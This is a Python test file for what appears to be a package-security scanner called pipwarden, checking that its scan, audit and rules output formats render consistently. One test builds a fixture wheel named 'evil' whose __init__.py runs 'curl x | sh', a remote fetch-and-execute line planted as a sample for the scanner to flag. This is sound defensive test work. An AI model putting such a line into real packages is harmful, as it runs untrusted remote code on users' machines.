"""Output formats: one interface (report.interface.Format), one table of formats per command."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import click
import pytest

from pipwarden.catalogue import registry
from pipwarden.report import audit, disclosure, rules, scan, vetting
from pipwarden.report.interface import Format, by_name
from pipwarden.scan import scan_target
from tests.support.builders import build_wheel

TABLES = {
    "scan": scan.FORMATS,
    "check": vetting.FORMATS,
    "audit": audit.FORMATS,
    "rules": rules.FORMATS,
    "policy check": disclosure.POSTURE_FORMATS,
}


def test_every_format_is_a_format_named_as_its_key() -> None:
    for table in TABLES.values():
        for name, cls in table.items():
            assert issubclass(cls, Format) and cls.name == name
            assert cls.__doc__


@pytest.mark.parametrize("command", list(TABLES))
def test_the_cli_offers_exactly_the_table(command: str) -> None:
    from pipwarden.cli import cli

    ctx = click.Context(cli)
    cmd: Any = cli
    for word in command.split():
        cmd = cmd.get_command(ctx, word)
    choices = next(p for p in cmd.params if p.name == "fmt").type.choices
    assert list(choices) == list(TABLES[command])


def test_by_name_refuses_two_formats_of_one_name() -> None:
    with pytest.raises(ValueError, match="share a name"):
        by_name([scan.JsonFormat, audit.JsonFormat])  # type: ignore[list-item]


def test_scan_formats_render_and_write_alike(tmp_path: Path) -> None:
    name, data = build_wheel(
        "evil", "1.0", {"evil/__init__.py": "import os\nos.system('curl x | sh')\n"}
    )
    (tmp_path / name).write_bytes(data)
    results = [scan_target(tmp_path / name)]
    assert results[0].findings
    for cls in scan.FORMATS.values():
        out = io.StringIO()
        cls().write(iter(results), out)
        assert out.getvalue() == cls().render(iter(results))
    doc = json.loads(scan.JsonFormat().render(results))
    assert doc["targets"][0]["verdict"] == results[0].verdict
    sarif = json.loads(scan.SarifFormat().render(results))
    assert sarif["runs"][0]["results"][0]["ruleId"] == results[0].findings[0].rule
    text = scan.TextFormat().render(results)
    counts = {"clean": 0, "suspicious": 0, "malicious": 0, results[0].verdict: 1}
    summary = ", ".join(f"{n} {verdict}" for verdict, n in counts.items())
    assert text.startswith(f"{results[0].target}: {results[0].verdict}")
    assert text.endswith(f"1 target: {summary}\n")


def test_rules_formats_list_the_registry() -> None:
    doc = json.loads(rules.JsonFormat().render(registry()))
    assert [r["id"] for r in doc] == registry().ids
    text = rules.TextFormat().render(registry())
    assert text.count("\n    fix: ") == len(registry())
